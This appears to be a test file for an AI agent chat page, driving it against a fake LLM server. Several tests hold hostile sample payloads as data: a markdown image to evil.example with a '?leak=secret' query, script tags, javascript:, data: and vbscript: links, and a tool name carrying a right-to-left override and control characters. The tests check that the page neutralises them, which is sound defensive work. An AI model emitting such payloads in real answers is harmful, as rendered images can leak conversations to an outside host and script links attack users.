"""The workspace page's chat, driven with AppTest through the real route handler, the real OpenAI SDK
and the fake LLM server (nothing of ours is mocked)."""

from __future__ import annotations

import sqlite3
import time
from pathlib import Path

import pytest

from agent_app.errors import ErrorKind
from agent_app.invisible_chars import INVISIBLE_CHARACTERS
from agent_app.orchestrator import ITERATION_LIMIT_MESSAGE
from agent_app.storage import SqliteStorage
from agent_app.types import ChatMessage, ToolCall
from agent_app.ui.chat_errors import describe_chat_error
from agent_app.ui.chat_panel import FOCUS_INPUT_SCRIPT, PROMPT_PLACEHOLDER
from agent_app.ui.live_status import CUT_TEXT_NOTE, QUEUED_LABEL, status_label
from fake_llm import (
    CANARY_API_KEY,
    FakeLLMServer,
    delayed,
    error_reply,
    hang,
    openai_text,
    openai_tool_calls,
    streamed,
    tool_call,
    transcription_reply,
)
from fake_llm.streams import StreamScript
from tests.history_html import link_targets, parse, tags
from tests.media_samples import make_video
from tests.page_support import (
    action_buttons,
    bubbles,
    card_labels,
    cards,
    click,
    configure_env,
    data_dir,
    history_action,
    message_elements,
    new_page,
    run_going,
    send,
    settle,
    shown,
    statuses,
    texts,
)

__all__ = ["data_dir"]  # a fixture (tests.page_support)


def stored_messages(data_dir: Path, conversation_id: str) -> list[tuple[str, str]]:
    storage = SqliteStorage(data_dir)
    try:
        return [(m.role, m.content) for m in storage.load_messages(conversation_id)]
    finally:
        storage.close()


def test_submission_is_answered_by_the_model(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    fake_llm.chat.push(openai_text("Hello! I can see your project."))
    at = send(new_page(), "Hi there")
    assert bubbles(at) == [("user", "Hi there"), ("assistant", "Hello! I can see your project.")]
    sent = fake_llm.chat.last.json
    assert sent["model"] == "fake-model"
    assert sent["messages"][0]["role"] == "system"
    assert sent["messages"][-1] == {"role": "user", "content": "Hi there"}
    chat_id = at.query_params["chat"]
    assert stored_messages(data_dir, chat_id) == [("user", "Hi there"), ("assistant", "Hello! I can see your project.")]
    assert at.chat_input(key="chat_prompt").disabled is False


def test_tool_call_turn_shows_its_card_and_the_final_answer(
    data_dir: Path, fake_llm: FakeLLMServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("TRANSCRIBE_BACKEND", "openai")
    monkeypatch.setenv("TRANSCRIBE_MODEL", "fake-whisper")
    at = new_page()
    clip = make_video(tmp_path / "interview.mp4", seconds=1.0).read_bytes()
    at.sidebar.file_uploader[0].upload("interview.mp4", clip, "video/mp4").run()
    asset_id = str(at.session_state["ws.active_asset_id"])
    fake_llm.transcription.push(
        transcription_reply("welcome to the harbour", segments=[(0.0, 0.9, "welcome to the harbour")])
    )
    fake_llm.chat.push(
        openai_tool_calls(tool_call("transcribe_video", {"assetId": asset_id}, id="call_1")),
        openai_text("They say: *welcome to the harbour*."),
    )
    send(at, "What is said in the interview?")
    assert [role for role, _ in bubbles(at)] == ["user", "assistant"]
    assert "They say: welcome to the harbour." in bubbles(at)[1][1]
    assert "They say: <em>welcome to the harbour</em>." in str(message_elements(at)[1]["html"])  # Markdown drawn
    labels = card_labels(at)
    assert len(labels) == 1 and "transcribe_video" in labels[0] and "done" in labels[0]
    [card] = cards(at)
    assert card.state == "done" and card.notes == ["Arguments", "Result"]
    arguments, result = card.fields
    assert arguments == f"assetId {asset_id}" and f"<b>assetId</b> {asset_id}" in card.html  # named, not raw JSON
    assert "welcome to the harbour" in result  # the result
    assert not {"code", "pre"} & set(tags(card.html)) and '{"' not in arguments + result
    tool_message = fake_llm.chat.last.json["messages"][-1]
    assert tool_message["role"] == "tool" and tool_message["tool_call_id"] == "call_1"


def test_failed_tool_shows_the_error_in_its_card(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    fake_llm.chat.push(
        openai_tool_calls(tool_call("transcribe_video", {"assetId": "no-such-asset"})),
        openai_text("I could not find that clip."),
    )
    at = send(new_page(), "Transcribe it")
    labels = card_labels(at)
    assert len(labels) == 1 and "failed" in labels[0]
    [card] = cards(at)
    assert card.state == "failed" and len(card.errors) == 1 and "no-such-asset" in card.errors[0]
    assert "I could not find that clip." in bubbles(at)[1][1]


def test_iteration_cap_message_is_shown(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    fake_llm.chat.default = openai_tool_calls(tool_call("transcribe_video", {"assetId": "missing"}))
    at = send(new_page(), "Loop forever")
    assert len(fake_llm.chat.requests) == 8
    assert len(card_labels(at)) == 8
    assert bubbles(at)[-1][1].endswith(ITERATION_LIMIT_MESSAGE)
    assert at.chat_input(key="chat_prompt").disabled is False


def test_provider_failure_shows_the_error_then_retry_succeeds_keeping_the_message(
    data_dir: Path, fake_llm: FakeLLMServer
) -> None:
    fake_llm.chat.push(error_reply(500, "upstream exploded"))
    at = send(new_page(), "Summarise my clip")
    [error] = texts(at.main.error)
    assert error.startswith("LLM provider error: ") and "Retry" in error and "`LLM_*` settings" in error
    assert bubbles(at) == [("user", "Summarise my clip")]
    chat_id = at.query_params["chat"]
    assert stored_messages(data_dir, chat_id) == [("user", "Summarise my clip")]

    fake_llm.chat.push(openai_text("Here is the summary."))
    click(at, "chat_retry")
    assert bubbles(at) == [("user", "Summarise my clip"), ("assistant", "Here is the summary.")]
    assert not at.main.error
    user_turns = [m for m in fake_llm.chat.last.json["messages"] if m["role"] == "user"]
    assert user_turns == [{"role": "user", "content": "Summarise my clip"}]
    assert stored_messages(data_dir, chat_id) == [("user", "Summarise my clip"), ("assistant", "Here is the summary.")]


def test_new_chat_starts_empty_and_keeps_the_old_one(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    fake_llm.chat.push(openai_text("First answer"))
    at = send(new_page(), "First question")
    old_chat = at.query_params["chat"]
    at.button(key="chat_new").click().run()
    assert bubbles(at) == []
    assert "chat" not in at.query_params
    assert at.sidebar.button(key=f"conversations_open_{old_chat}").label.startswith("First question — 1 question · ")
    fake_llm.chat.push(openai_text("Second answer"))
    send(at, "Second question")
    assert bubbles(at) == [("user", "Second question"), ("assistant", "Second answer")]
    assert [m["content"] for m in fake_llm.chat.last.json["messages"] if m["role"] == "user"] == ["Second question"]
    assert at.query_params["chat"] != old_chat
    at.sidebar.button(key=f"conversations_open_{old_chat}").click().run()
    assert bubbles(at) == [("user", "First question"), ("assistant", "First answer")]
    assert at.query_params["chat"] == old_chat


def test_reload_with_the_same_query_parameters_restores_the_conversation(
    data_dir: Path, fake_llm: FakeLLMServer
) -> None:
    fake_llm.chat.push(openai_text("Remember me"))
    first = send(new_page(), "Hello before the reload")
    params = dict(first.query_params)
    reloaded = new_page(params)
    assert bubbles(reloaded) == [("user", "Hello before the reload"), ("assistant", "Remember me")]
    assert dict(reloaded.query_params) == params
    fake_llm.chat.push(openai_text("Still here"))
    send(reloaded, "And after?")
    sent_users = [m["content"] for m in fake_llm.chat.last.json["messages"] if m["role"] == "user"]
    assert sent_users == ["Hello before the reload", "And after?"]


def test_unknown_conversation_in_the_url_falls_back_cleanly(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    at = new_page({"project": "nope", "chat": "nope"})
    assert bubbles(at) == []
    assert at.query_params["project"] != "nope"
    assert "chat" not in at.query_params


def test_page_without_llm_settings_explains_what_is_missing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_llm: FakeLLMServer
) -> None:
    configure_env(monkeypatch, tmp_path / "data", None)
    at = new_page()
    warning = "\n".join(texts(at.sidebar.warning))
    for name in ("LLM_PROVIDER", "LLM_MODEL", "LLM_API_KEY"):
        assert name in warning
    assert ".streamlit/secrets.toml" in warning
    said = [t for t in texts(at.main.info) + texts(at.main.warning) + texts(at.main.error) if "LLM_" in t]
    assert len(at.sidebar.warning) == 1 and said == []  # said once, not three times
    box = at.chat_input(key="chat_prompt")
    assert box.disabled and box.placeholder == "Set up a model to chat"
    assert at.button(key="chat_setup_model").label == "Where to set up a model"
    clip = make_video(tmp_path / "clip.mp4", seconds=1.0).read_bytes()
    at.sidebar.file_uploader[0].upload("clip.mp4", clip, "video/mp4").run()
    assert not at.exception
    assert at.main.get("video")  # the player works without a model
    assert bubbles(at) == [] and "chat" not in at.query_params and fake_llm.requests == []


def test_upload_reaches_the_context_of_the_next_request(
    data_dir: Path, fake_llm: FakeLLMServer, tmp_path: Path
) -> None:
    at = new_page()
    clip = make_video(tmp_path / "clip.mp4", seconds=2.0).read_bytes()
    at.sidebar.file_uploader[0].upload("Harbour walk.mp4", clip, "video/mp4").run()
    assert not at.exception
    library = "\n".join(texts(at.sidebar.markdown))
    assert "Harbour walk.mp4" in library
    assert any("0:02" in caption and "KB" in caption for caption in texts(at.sidebar.caption))
    asset_id = str(at.session_state["ws.active_asset_id"])
    fake_llm.chat.push(openai_text("I see the harbour walk."))
    send(at, "What do I have?")
    system_prompt = fake_llm.chat.last.json["messages"][0]["content"]
    assert f'id "{asset_id}": "Harbour walk.mp4"' in system_prompt
    assert "(active, shown in the player)" in system_prompt
    assert f'Project id: "{at.query_params["project"]}"' in system_prompt
    stored = SqliteStorage(data_dir)
    assert [a.name for a in stored.list_assets(at.query_params["project"])] == ["Harbour walk.mp4"]
    stored.close()


def test_interrupted_run_is_closed_and_retried(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    storage = SqliteStorage(data_dir)
    project = storage.create_project("p")
    chat = storage.create_conversation(project.id)
    call = ToolCall(id="call_cut", name="transcribe_video", args={})
    storage.append_message(chat.id, ChatMessage(role="user", content="Transcribe the clip"))
    storage.append_message(chat.id, ChatMessage(role="assistant", tool_calls=[call]))  # the run stopped here
    storage.close()
    at = new_page({"project": project.id, "chat": chat.id})
    assert "did not finish" in texts(at.main.warning)[0]
    assert "no result" in card_labels(at)[0]

    fake_llm.chat.push(openai_text("Sorry, that was cut off. Shall I try again?"))
    click(at, "chat_retry")
    sent = fake_llm.chat.last.json["messages"]
    assert [m["role"] for m in sent] == ["system", "user", "assistant", "tool"]
    assert sent[-1]["tool_call_id"] == "call_cut" and "Interrupted" in sent[-1]["content"]
    assert "failed" in card_labels(at)[0]
    assert bubbles(at)[-1][1].endswith("Shall I try again?")
    assert not at.main.warning
    assert [role for role, _ in stored_messages(data_dir, chat.id)] == ["user", "assistant", "tool", "assistant"]


def test_message_is_kept_when_the_database_is_busy_and_saved_on_retry(
    data_dir: Path, fake_llm: FakeLLMServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AGENT_DB_BUSY_TIMEOUT_MS", "100")
    at = new_page()
    blocker = sqlite3.connect(data_dir / "agent.sqlite3", isolation_level=None)
    blocker.execute("BEGIN IMMEDIATE")  # another writer holds the database
    try:
        send(at, "Do not lose me")
    finally:
        blocker.execute("ROLLBACK")
        blocker.close()
    assert bubbles(at) == [("user", "Do not lose me")]
    assert "could not be saved" in texts(at.main.error)[0]
    assert fake_llm.chat.requests == []

    fake_llm.chat.push(openai_text("Saved and answered."))
    click(at, "chat_retry")
    assert bubbles(at) == [("user", "Do not lose me"), ("assistant", "Saved and answered.")]
    assert stored_messages(data_dir, at.query_params["chat"]) == [
        ("user", "Do not lose me"),
        ("assistant", "Saved and answered."),
    ]


HOSTILE_ANSWER = (
    "Look: ![chart](https://evil.example/p.png?leak=secret) <img src=https://evil.example/i.png> "
    "<script>alert(1)</script> [docs](javascript:alert(1))\n\n```md\n![kept](in-code.png)\n```"
)


def test_model_answer_cannot_load_external_images(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    """Images in an answer would be fetched from their host as soon as they are drawn (a way to leak the
    conversation without a click): they become links; HTML stays text; code blocks are untouched."""
    fake_llm.chat.push(openai_text(HOSTILE_ANSWER))
    at = send(new_page(), "Show me ![me](https://evil.example/u.png)")
    drawn = [str(bubble["html"]) for bubble in message_elements(at)]
    assert drawn and not any({"img", "script"} & set(tags(html)) for html in drawn)  # no fetch, no script
    user, answer = (bubble for _, bubble in bubbles(at))
    assert user == "Show me ![me](https://evil.example/u.png)"  # the user's text as typed: neither image nor link
    assert link_targets(drawn[0]) == [] and 'class="typed"' in drawn[0]
    assert link_targets(drawn[1]) == ["https://evil.example/p.png?leak=secret"]  # the image, as a link; not js
    assert [inside for tag, _, inside in parse(drawn[1]) if tag == "a"] == ["chart"] and "![chart]" not in answer
    assert "<img src=https://evil.example/i.png> <script>alert(1)</script> [docs](javascript:alert(1))" in answer
    assert [inside for tag, _, inside in parse(drawn[1]) if tag == "code"] == ["![kept](in-code.png)\n"]
    assert '<code class="language-md">![kept](in-code.png)' in drawn[1]  # the code block, untouched
    assert stored_messages(data_dir, at.query_params["chat"])[1] == ("assistant", HOSTILE_ANSWER)  # stored as sent


def test_two_tabs_in_one_conversation_each_see_and_send_the_whole_history(
    data_dir: Path, fake_llm: FakeLLMServer
) -> None:
    """Tab B opened the conversation before tab A added a turn: B shows A's turn and the model gets it."""
    fake_llm.chat.push(openai_text("First answer."))
    tab_a = send(new_page(), "First question")
    tab_b = new_page(dict(tab_a.query_params))
    fake_llm.chat.push(openai_text("Second answer."))
    send(tab_a, "Second question")
    tab_b.run()
    assert [text for _, text in bubbles(tab_b)][-1] == "Second answer."
    fake_llm.chat.push(openai_text("Third answer."))
    send(tab_b, "Third question")
    sent = [(m["role"], m.get("content")) for m in fake_llm.chat.last.json["messages"][1:]]
    assert sent == [
        ("user", "First question"),
        ("assistant", "First answer."),
        ("user", "Second question"),
        ("assistant", "Second answer."),
        ("user", "Third question"),
    ]
    assert len(stored_messages(data_dir, tab_a.query_params["chat"])) == 6


def test_a_question_sent_while_another_tab_runs_is_refused_and_nothing_is_stored(
    data_dir: Path, fake_llm: FakeLLMServer
) -> None:
    """One run per conversation: tab B, drawn before tab A asked, sends while A's run goes; B is told why
    its question was not sent, storage holds A's turn only, and B then shows A's answer."""
    fake_llm.chat.push(openai_text("Opening answer."))
    tab_a = send(new_page(), "Opening")
    tab_b = new_page(dict(tab_a.query_params))
    fake_llm.chat.push(delayed(openai_text("A's answer."), 1.0))
    tab_a.chat_input(key="chat_prompt").set_value("A asks").run()
    assert run_going(tab_a)
    tab_b.chat_input(key="chat_prompt").set_value("B asks").run()
    assert any("still answering in this conversation" in text for text in texts(tab_b.main.info))
    settle(tab_a)
    settle(tab_b)
    chat_id = tab_a.query_params["chat"]
    assert stored_messages(data_dir, chat_id)[2:] == [("user", "A asks"), ("assistant", "A's answer.")]
    assert [text for _, text in bubbles(tab_b)][-2:] == ["A asks", "A's answer."]
    assert len(fake_llm.chat.requests) == 2


def test_misconfigured_provider_is_explained_without_showing_the_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    configure_env(monkeypatch, tmp_path / "data", None)
    monkeypatch.setenv("LLM_PROVIDER", "bogus")
    monkeypatch.setenv("LLM_MODEL", "some-model")
    monkeypatch.setenv("LLM_API_KEY", CANARY_API_KEY)
    at = new_page()
    warning = "\n".join(texts(at.sidebar.warning))
    assert "Unknown LLM provider: bogus" in warning and "Settings go in `.streamlit/secrets.toml`" in warning
    kinds = ("markdown", "caption", "warning", "info", "error")
    shown = [text for kind in kinds for text in texts(at.get(kind))]
    assert shown and not any(CANARY_API_KEY in text for text in shown)


def test_an_invalid_retry_or_timeout_setting_is_named_in_the_sidebar_not_called_configured(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    configure_env(monkeypatch, tmp_path / "data", None)
    monkeypatch.setenv("LLM_PROVIDER", "gemini")
    monkeypatch.setenv("LLM_MODEL", "some-model")
    monkeypatch.setenv("LLM_API_KEY", CANARY_API_KEY)
    monkeypatch.setenv("LLM_TIMEOUT_SECONDS", "1e300")
    at = new_page()
    warning = "\n".join(texts(at.sidebar.warning))
    assert "LLM_TIMEOUT_SECONDS" in warning and "1e300" not in warning
    assert not any("configured]" in text for text in texts(at.sidebar.markdown))
    monkeypatch.delenv("LLM_API_KEY")  # a missing key and a bad retry count: both named at once
    monkeypatch.setenv("LLM_TIMEOUT_SECONDS", "30")
    monkeypatch.setenv("LLM_MAX_RETRIES", "many")
    at = new_page()
    warning = "\n".join(texts(at.sidebar.warning))
    assert "`LLM_API_KEY` is missing" in warning and "Setting LLM_MAX_RETRIES must be an integer" in warning
    shown = [text for kind in ("markdown", "caption", "warning", "info", "error") for text in texts(at.get(kind))]
    assert not any(CANARY_API_KEY in text or "many" in text for text in shown)


def test_tool_error_quoting_the_model_is_shown_literally(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    """A tool's error can quote the model's arguments; an error box is Markdown, so an image there would load."""
    hostile = "![x](http://198.51.100.7/p.png)"
    fake_llm.chat.push(
        openai_tool_calls(tool_call("transcribe_video", {"assetId": hostile})), openai_text("No such clip.")
    )
    at = send(new_page(), "Transcribe it")
    [card] = cards(at)
    [error] = card.errors
    assert hostile in error  # the characters as written
    assert not {"img", "a"} & set(tags(card.html)) and link_targets(card.html) == []  # neither image nor link


def test_two_tabs_see_the_same_live_run_and_then_its_answer(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    fake_llm.chat.push(openai_text("Opening answer."))
    tab_a = send(new_page(), "Opening")
    fake_llm.chat.push(delayed(openai_text("The slow answer."), 1.0))
    tab_a.chat_input(key="chat_prompt").set_value("Take your time").run()
    tab_b = new_page(dict(tab_a.query_params))  # another tab (or a reload) while the run goes
    for tab in (tab_a, tab_b):
        assert run_going(tab)
        assert [text for _, text in bubbles(tab)][-2] == "Take your time"
        labels = statuses(tab)  # queued while a loaded machine's worker is busy
        assert "Asking the assistant…" in labels or QUEUED_LABEL in labels
        box = tab.chat_input(key="chat_prompt")
        assert not box.disabled and box.placeholder == PROMPT_PLACEHOLDER  # a send is refused by storage, kept
        assert not tab.main.warning and "chat_retry" not in [button.key for button in tab.main.button]
    settle(tab_b)
    assert [text for _, text in bubbles(tab_b)][-1] == "The slow answer."
    settle(tab_a)
    assert [text for _, text in bubbles(tab_a)][-1] == "The slow answer."
    assert not tab_a.chat_input(key="chat_prompt").disabled


def test_a_question_sent_while_this_tabs_run_goes_is_refused_and_stays_in_its_box(
    data_dir: Path, fake_llm: FakeLLMServer
) -> None:
    """The input stays enabled while a run goes (a widget disabled on the server drops what is sent): a
    question sent then is refused by storage, said so, and put back in the box; nothing of it is stored."""
    answer = " ".join(f"word{i}" for i in range(600))
    fake_llm.chat.push(streamed(openai_text(answer), StreamScript(pieces=600, delay_seconds=0.1)))  # ended by Stop
    at = new_page()
    at.chat_input(key="chat_prompt").set_value("Take your time").run()
    assert run_going(at)
    at.chat_input(key="chat_prompt").set_value("And one more thing").run()
    assert any("still answering in this conversation" in text for text in texts(at.main.info))
    box = at.chat_input(key="chat_prompt").proto
    assert (box.value, box.set_value, box.disabled) == ("And one more thing", True, False)
    assert run_going(at)
    click(at, "chat_stop")
    stored = stored_messages(data_dir, at.query_params["chat"])
    assert [text for role, text in stored if role == "user"] == ["Take your time"]  # the refused one: nowhere
    asked = [str(request.json["messages"]) for request in fake_llm.chat.requests]  # none if Stop came first
    assert len(asked) <= 1 and not any("And one more thing" in text for text in asked)


def test_keyboard_focus_returns_to_the_input_after_an_answer(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    """The focus can leave the input while a run goes (a click on Stop); after the answer it is put back
    (offered on the redraws of the next few seconds, then no more)."""
    fake_llm.chat.push(openai_text("Answered."))
    at = send(new_page(), "Question")
    scripts = [str(e.proto.body) for e in at.get("html") if FOCUS_INPUT_SCRIPT in str(e.proto.body)]
    assert len(scripts) == 1 and scripts[0].startswith(FOCUS_INPUT_SCRIPT)
    at.session_state["chat.focus_until"] = 0.0  # the few seconds have passed
    at.run()
    assert [e for e in at.get("html") if FOCUS_INPUT_SCRIPT in str(e.proto.body)] == []


PROVIDER_FAILURES = {
    "rejected key": (error_reply(401, "Incorrect API key sk-live-quoted"), "refused the API key", "`LLM_API_KEY`"),
    "rate limit": (error_reply(429, "Rate limit reached, org quoted", retry_after_ms=1), "HTTP 429", "Wait a minute"),
    "timeout": (hang(10), "did not answer in time", "`LLM_TIMEOUT_SECONDS`"),
    "server error": (error_reply(500, "upstream exploded"), "service failed", "`LLM_*` settings"),
}


@pytest.mark.parametrize("failure", PROVIDER_FAILURES)
def test_page_says_which_provider_failure_it_was_and_what_to_do(
    failure: str, data_dir: Path, fake_llm: FakeLLMServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    if failure == "timeout":
        monkeypatch.setenv("LLM_TIMEOUT_SECONDS", "0.5")
    reply, which, what_to_do = PROVIDER_FAILURES[failure]
    fake_llm.chat.push(reply)
    at = send(new_page(), "Summarise my clip")
    [error] = texts(at.main.error)
    assert error.startswith("LLM provider error: ") and which in error and what_to_do in error, error
    assert "quoted" not in error and "exploded" not in error  # never the provider's own text
    others = [phrase for name, (_, phrase, _) in PROVIDER_FAILURES.items() if name != failure]
    assert not any(phrase in error for phrase in others)
    assert at.button(key="chat_retry")


def test_stop_while_the_model_answers_then_a_normal_next_question(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    fake_llm.chat.push(delayed(openai_text("Too late to be shown."), 5.0), openai_text("Short answer."))
    at = new_page()
    at.chat_input(key="chat_prompt").set_value("Ramble on").run()
    assert run_going(at)
    deadline = time.monotonic() + 30
    while not fake_llm.chat.requests:  # the model is answering
        assert time.monotonic() < deadline
        time.sleep(0.02)
    at.run()
    click(at, "chat_stop")
    assert not run_going(at)
    assert "Stopped before the assistant answered." in texts(at.main.caption)
    assert bubbles(at) == [("user", "Ramble on")]
    send(at, "Short answer please")
    assert bubbles(at)[-1] == ("assistant", "Short answer.")
    sent = [(m["role"], m["content"]) for m in fake_llm.chat.last.json["messages"][1:]]
    assert sent == [("user", "Ramble on"), ("user", "Short answer please")]
    assert stored_messages(data_dir, at.query_params["chat"]) == [
        ("user", "Ramble on"),
        ("user", "Short answer please"),
        ("assistant", "Short answer."),
    ]


def test_streamed_text_shows_in_pieces_before_the_answer_is_complete(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    answer = "one two three four five six"
    fake_llm.chat.push(streamed(openai_text(answer), StreamScript(pieces=6, delay_seconds=0.5)))
    at = new_page()
    at.chat_input(key="chat_prompt").set_value("Count").run()
    seen: list[str] = []
    deadline = time.monotonic() + 30
    while run_going(at):
        assert time.monotonic() < deadline
        role, text = bubbles(at)[-1]  # the live turn
        assert role == "assistant"
        if text and (not seen or text != seen[-1]):
            seen.append(text)
        time.sleep(0.1)
        at.run()
    partial = [text for text in seen if text != answer]
    assert len(partial) >= 3 and all(answer.startswith(text) for text in partial)  # growing prefixes
    assert bubbles(at)[-1] == ("assistant", answer)


def test_text_cut_by_a_provider_error_stays_shown_after_reload_and_is_never_sent_to_the_model(
    data_dir: Path, fake_llm: FakeLLMServer
) -> None:
    answer = "The interview starts with a question about the harbour, then the answer goes on."
    fake_llm.chat.push(streamed(openai_text(answer), StreamScript(pieces=6, fault="cut", fault_after=4)))  # cut
    at = send(new_page(), "Summarise the interview")
    [error] = texts(at.main.error)
    assert error.startswith("LLM provider error: ") and at.button(key="chat_retry")
    [question, (role, cut)] = bubbles(at)
    assert question == ("user", "Summarise the interview") and role == "assistant"
    partial = cut.removesuffix(f"\n{CUT_TEXT_NOTE}")
    assert partial and partial != answer and answer.startswith(partial)
    chat_id = at.query_params["chat"]
    assert stored_messages(data_dir, chat_id) == [("user", "Summarise the interview")]  # never a half-saved message

    reloaded = new_page(dict(at.query_params))  # a reload, another tab: the cut text is still there
    assert bubbles(reloaded) == bubbles(at) and texts(reloaded.main.error) == [error]

    fake_llm.chat.push(openai_text("Here is the summary."))
    click(reloaded, "chat_retry")
    assert bubbles(reloaded) == [("user", "Summarise the interview"), ("assistant", "Here is the summary.")]
    sent = [(m["role"], m["content"]) for m in fake_llm.chat.last.json["messages"][1:]]
    assert sent == [("user", "Summarise the interview")]  # the model never received the cut text


def test_the_chat_draws_loading_status_and_error_from_the_session_stores(
    data_dir: Path, fake_llm: FakeLLMServer
) -> None:
    """The spec's stores are the page's state: filled from the run on each refresh, they are what it draws."""
    fake_llm.chat.push(delayed(openai_text("The slow answer."), 1.0))
    at = new_page()
    at.chat_input(key="chat_prompt").set_value("Take your time").run()
    deadline = time.monotonic() + 30
    while statuses(at) == [QUEUED_LABEL]:  # not claimed yet (a loaded machine)
        assert time.monotonic() < deadline, "the run was never claimed"
        time.sleep(0.05)
        at.run()
    assert run_going(at)  # the answer takes a second once claimed: the page draws it running
    state = at.session_state
    assert state["chat.loading"] is True and not at.chat_input(key="chat_prompt").disabled
    assert statuses(at) == [status_label(state["agent.status"], state["agent.active_tool"])]
    settle(at)
    assert (state["chat.loading"], state["agent.status"], state["agent.active_tool"]) == (False, "idle", None)
    assert not at.chat_input(key="chat_prompt").disabled

    fake_llm.chat.push(error_reply(500, "upstream exploded"))
    at = send(at, "Again")
    kind = at.session_state["chat.error_kind"]
    assert kind is not None
    assert texts(at.main.error) == [shown(describe_chat_error(at.session_state["chat.error"], ErrorKind(kind)))]


def test_a_hostile_tool_name_and_data_links_are_shown_as_text(data_dir: Path, fake_llm: FakeLLMServer) -> None:
    """A tool name carrying a right-to-left override, NUL and ESC shows them as ``\\uXXXX`` in its card's
    label; a ``data:`` or ``vbscript:`` link in the answer is drawn as text, an https one stays a link."""
    fake_llm.chat.push(
        openai_tool_calls(tool_call("evil\u202egnp.exe\x00\x1b[31m", {})),
        openai_text("[page](data:text/html,<b>x</b>) [vb](vbscript:msgbox) [docs](https://example.com/d)"),
    )
    at = send(new_page(), "Go")
    (label,) = card_labels(at)
    assert label == "evil\\u202egnp.exe\\u0000\\u001b[31m · failed"  # the unknown tool fails
    drawn = str(message_elements(at)[1]["html"])
    assert not INVISIBLE_CHARACTERS.search(drawn)
    assert link_targets(drawn) == ["https://example.com/d"]
    assert "page vb docs" not in bubbles(at)[1][1] and "[page](data:text/html,<b>x</b>)" in bubbles(at)[1][1]


def test_a_turn_of_a_thousand_tool_calls_draws_a_page_of_cards(
    data_dir: Path, fake_llm: FakeLLMServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A model asking for 1,000 calls at once: the cap runs the first ones and answers the rest with an error,
    and the conversation draws the first cards and a "Show more" button, each press drawing a page more."""
    monkeypatch.setenv("LLM_CONTEXT_TOKENS", "200000")  # room to send the whole round back
    from agent_app.orchestrator_options import MAX_CALLS_PER_ROUND
    from agent_app.ui.tool_cards import CARDS_PAGE, CARDS_SHOWN

    calls = [tool_call("transcribe_video", {"assetId": f"a{n}"}, id=f"call_{n}") for n in range(1000)]
    fake_llm.chat.push(openai_tool_calls(*calls), openai_text("I asked for too much."))
    at = send(new_page(), "Transcribe everything")
    assert len(fake_llm.chat.requests) == 2 and len(fake_llm.chat.last.json["messages"]) == 1 + 1 + 1 + 1000
    assert len(stored_messages(data_dir, at.query_params["chat"])) == 1 + 1 + 1000 + 1
    labels = card_labels(at)
    assert len(labels) == CARDS_SHOWN == MAX_CALLS_PER_ROUND
    more = action_buttons(at, "more_cards")
    assert [(b.label, b.enabled) for b in more] == [(f"Show {CARDS_PAGE} more of 990 hidden tool calls", True)]
    assert bubbles(at)[-1][1] == "I asked for too much."
    history_action(at, "more_cards", "no-such-message")  # a target the page did not offer does nothing
    assert len(card_labels(at)) == CARDS_SHOWN
    history_action(at, "more_cards", more[0].target)
    assert len(card_labels(at)) == CARDS_SHOWN + CARDS_PAGE
    assert [b.label for b in action_buttons(at, "more_cards")] == [f"Show {CARDS_PAGE} more of 940 hidden tool calls"]
    reopened = new_page(dict(at.query_params))
    reopened.run()
    assert len(card_labels(reopened)) == CARDS_SHOWN  # a new session starts from the first page again
